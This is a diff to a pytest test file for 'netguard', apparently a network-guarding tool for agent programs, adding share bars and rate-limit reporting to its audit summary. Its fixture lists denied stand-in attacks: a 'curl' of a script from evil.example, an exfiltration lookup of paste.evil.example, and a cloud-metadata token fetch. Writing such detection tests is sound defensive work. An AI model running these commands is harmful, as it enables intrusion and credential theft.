@@ -9,6 +9,7 @@ import pytest
 
 from netguard.core.acts import UNREAD
 from netguard.views.summary import ADDRESSES, LOOKUPS, ROOM, ROWS, Tally
+from netguard.views.table import WIDE, Table, bar
 from netguard.views.text import columns_of
 from tests.views.runs import AUDIT_RUN, DRY_RUN, Record, code, connect, dns, hostile_record, line, started
 
@@ -33,18 +34,18 @@ check: netguard verify /home/ci/.local/state/netguard/01JD/trail.jsonl
 """
 
 AUDIT_120 = """\
-verdict  kind     destination                              count  rule         asked by
-denied   connect  169.254.169.254:80                           1  metadata     agent.py:41 fetch_token
-denied   dns      paste.evil.example                           1  default      agent.py:55 Exfil.post
-denied   exec     curl -s http://evil.example/x.sh             1  no-shell     agent.py:63
-logged   connect  api.openai.com:443 (162.159.140.245 +1)      3  audit        agent.py:12 ask
-logged   exec     git clone ...                                2  audit        agent.py:60 sources
-logged   dns      pkg.test                                     1  audit        agent.py:8 index
-logged   connect  pkg.test:443 (151.101.0.223)                 1  audit        agent.py:8 index
-logged   dns      api.openai.com                               1  audit        agent.py:12 ask
-logged   listen   127.0.0.1:8000                               1  audit        agent.py:70 serve
-allowed           (no line of its own)                     1,240  own-sockets
-allowed           (no line of its own)                         3  pypi
+verdict  kind     destination                              count  share       rule         asked by
+denied   connect  169.254.169.254:80                           1  ▏           metadata     agent.py:41 fetch_token
+denied   dns      paste.evil.example                           1  ▏           default      agent.py:55 Exfil.post
+denied   exec     curl -s http://evil.example/x.sh             1  ▏           no-shell     agent.py:63
+logged   connect  api.openai.com:443 (162.159.140.245 +1)      3  ▏           audit        agent.py:12 ask
+logged   exec     git clone ...                                2  ▏           audit        agent.py:60 sources
+logged   dns      pkg.test                                     1  ▏           audit        agent.py:8 index
+logged   connect  pkg.test:443 (151.101.0.223)                 1  ▏           audit        agent.py:8 index
+logged   dns      api.openai.com                               1  ▏           audit        agent.py:12 ask
+logged   listen   127.0.0.1:8000                               1  ▏           audit        agent.py:70 serve
+allowed           (no line of its own)                     1,240  █████████▉  own-sockets
+allowed           (no line of its own)                         3  ▏           pypi
 netguard: 1,255 decisions: 9 logged, 3 denied, 1,243 allowed silently
 trail: /home/ci/.local/state/netguard/01JD/trail.jsonl
 check: netguard verify /home/ci/.local/state/netguard/01JD/trail.jsonl
@@ -263,9 +264,9 @@ def test_program_that_is_no_python_is_not_said_to_have_asked_for_nothing() -> No
 def test_grants_that_are_no_rules_are_told_in_words() -> None:
     text = tally([{"kind": "count", "counts": {"connection": 4, "local": 2, "mine": 1}}]).render(80, False)
     assert [row.split(maxsplit=2)[:3] for row in text.splitlines()[1:4]] == [
-        ["allowed", "http", "(its connection decided)      4"],
-        ["allowed", "dns", "(stays on this machine)       2"],
-        ["allowed", "(no", "line of its own)          1  mine"],
+        ["allowed", "http", "(its connection decided)      4  █████▋"],
+        ["allowed", "dns", "(stays on this machine)       2  ██▊"],
+        ["allowed", "(no", "line of its own)          1  █▍          mine"],
     ]
     assert "7 decisions: 7 allowed silently" in text
 
@@ -307,6 +308,134 @@ def test_what_is_no_record_is_counted_as_such() -> None:
 def test_the_hint_can_be_pasted_into_a_shell() -> None:
     last = tally([]).render(80, False, trail="/tmp/it's here/trail.jsonl").splitlines()[-1]
     assert last == "check: netguard verify '/tmp/it'\\''s here/trail.jsonl'"
+
+
+# Bars
+
+
+MIXED = [
+    *[dns("often.example", code=code(3, "look"))] * 6,
+    *[dns("less.example", code=code(3, "look"))] * 3,
+    dns("once.example", "deny", rule="default", code=code(3, "look")),
+]
+MIXED_80 = """\
+verdict  kind  destination    count  share       rule     asked by
+denied   dns   once.example       1  █           default  agent.py:3 look
+logged   dns   often.example      6  ██████      audit    agent.py:3 look
+logged   dns   less.example       3  ███         audit    agent.py:3 look
+netguard: 10 decisions: 9 logged, 1 denied
+"""
+
+
+WORDY = [
+    connect("a-host-with-a-very-long-name.in-a-zone.example", "2606:4700:4700::1111", 443, code=code(19, "fetch_it")),
+    *[started("/usr/bin/make", "all", "x" * 200, code=code(23, "build"))] * 3,
+]
+
+
+def test_bars_are_shares_of_all_decisions() -> None:
+    assert tally(MIXED).render(80, False) == MIXED_80
+    assert tally(MIXED).render(80, False, utf8=False) == MIXED_80.replace("█", "#")
+
+
+def test_bars_have_the_colour_of_the_verdict() -> None:
+    rows = tally(MIXED).render(80, True).splitlines()
+    assert "  \x1b[31m█         \x1b[0m  default" in rows[1]
+    assert "  \x1b[33m██████    \x1b[0m  audit" in rows[2]
+
+
+@pytest.mark.parametrize(
+    ("count", "utf8", "shown"),
+    [
+        (1_000, True, "██████████"),
+        (999, True, "█████████▉"),
+        (500, True, "█████"),
+        (137, True, "█▎"),
+        (13, True, "▏"),
+        (1, True, "▏"),
+        (2_000, True, "██████████"),
+        (999, False, "##########"),
+        (500, False, "#####"),
+        (149, False, "#"),
+        (150, False, "##"),
+        (50, False, "#"),
+        (49, False, "."),
+        (1, False, "."),
+    ],
+)
+def test_bar_is_linear_and_what_is_there_shows(count: int, utf8: bool, shown: str) -> None:
+    assert bar(count, 1_000, 10, utf8) == shown
+
+
+def test_bars_that_would_all_be_alike_are_left_out() -> None:
+    assert "share" not in tally(MIXED[5:7]).render(80, False)
+    assert "share" not in tally([*MIXED[:6]]).render(200, False)
+
+
+@pytest.mark.parametrize("width", range(40, 201))
+@pytest.mark.parametrize("records", [AUDIT_RUN, MIXED, DRY_RUN, WORDY], ids=["audit", "mixed", "dry", "wordy"])
+def test_bars_take_nothing_from_what_stands_in_words(width: int, records: list[Record]) -> None:
+    """Up to 99 columns the table is as it would be without; from there on, but for the ends of long commands."""
+    counted = tally(records)
+    with_bars = counted.render(width, False)
+    plain = Table(width, False, True)
+    plain.rows(counted.sections())
+    table = [row for row in with_bars.splitlines() if not row.startswith(("netguard:", "dry run"))]
+    assert max([columns_of(row) for row in table]) <= width
+    if "share" in table[0]:
+        at = table[0].index("share")
+        bare = "".join([f"{(row[:at] + row[at + 12 :]).rstrip()}\n" for row in table])
+        if width < WIDE:
+            assert bare == "".join(plain.lines)
+        for row, other in zip(bare.splitlines(), plain.lines, strict=True):
+            words = 2 if " exec " in row else 99
+            assert row.split()[-words:] == other.split()[-words:]  # of a command, the rule and the code line
+    else:
+        assert "".join([f"{row}\n" for row in table]) == "".join(plain.lines)
+
+
+# Limits
+
+
+def filled(*limits: object) -> Record:
+    return {"kind": "count", "counts": {}, "limits": list(limits)}
+
+
+def limit(fill: object, rule: str = "web", key: str = "") -> Record:
+    return {"rule": rule, "limit": "connections 60/min per destination", "fill": fill, **({"key": key} if key else {})}
+
+
+def test_limits_nearly_used_up_are_told_at_their_fullest() -> None:
+    counted = tally([filled(limit(0.5, "low"), limit(0.79, "less")), filled(limit(0.8))])
+    counted.add(filled(limit(0.97, key="a:1")))
+    counted.add(filled(limit(0.85), limit(1.0, "full")))
+    assert counted.render(80, False).splitlines()[1:] == [
+        "limit used up: connections 60/min per destination, rule full",
+        "limit 97% used: connections 60/min per destination, rule web, for a:1",
+    ]
+
+
+def test_more_limits_than_fit_are_counted() -> None:
+    counted = tally([filled(*[limit(0.9, f"rule-{number}") for number in range(2_000)])])
+    assert len(counted.limits) <= 1_000
+    assert counted.render(80, False).splitlines()[-1] == "and 995 more limits nearly used up"
+
+
+@pytest.mark.parametrize("odd", [7, "x", {}, limit("x"), limit(None), {"fill": 0.9}], ids=str)
+def test_limit_that_is_none_is_counted_as_unreadable(odd: object) -> None:
+    counted = tally([filled(odd)])
+    assert (counted.unreadable, counted.limits) == (1, {})
+
+
+@pytest.mark.parametrize("fill", [float("nan"), float("inf"), 1.01, -1, 10**400])
+def test_limit_that_is_more_than_full_is_nothing(fill: float) -> None:
+    assert tally([filled(limit(fill))]).limits == {}
+
+
+def test_guests_words_in_a_limit_stay_on_its_line() -> None:
+    text = tally([filled(limit(0.9, key="\x1b[2J\n" + "x" * 500))]).render(60, False)
+    assert max(map(len, text.splitlines()[1:])) <= 60
+    assert "\x1b" not in text
 
 
 @pytest.mark.parametrize("seed", range(30))
